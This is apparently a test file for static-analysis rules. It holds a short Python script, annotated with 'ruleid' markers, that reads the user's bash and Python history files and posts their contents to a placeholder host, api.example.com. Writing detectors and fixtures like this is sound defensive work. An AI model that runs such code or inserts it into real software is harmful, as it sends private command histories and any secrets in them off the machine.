# history-upload: a program that names a shell's history file and also
# sends data out; its requires rule, shell-history-named, is in this file
from pathlib import Path

import requests

# ruleid: shell-history-named, sensitive-system-path
HISTORY = [".bash_history", ".python_history"]


def read_history():
    found = {}
    for name in HISTORY:
        # ruleid: shell-history-named, sensitive-system-path
        path = Path.home() / name
        if path.exists():
            found[name] = path.read_text(errors="ignore")
    return found


def publish(histories):
    # ruleid: history-upload
    requests.post("https://api.example.com/gists", json={"files": histories}, timeout=15)


publish(read_history())
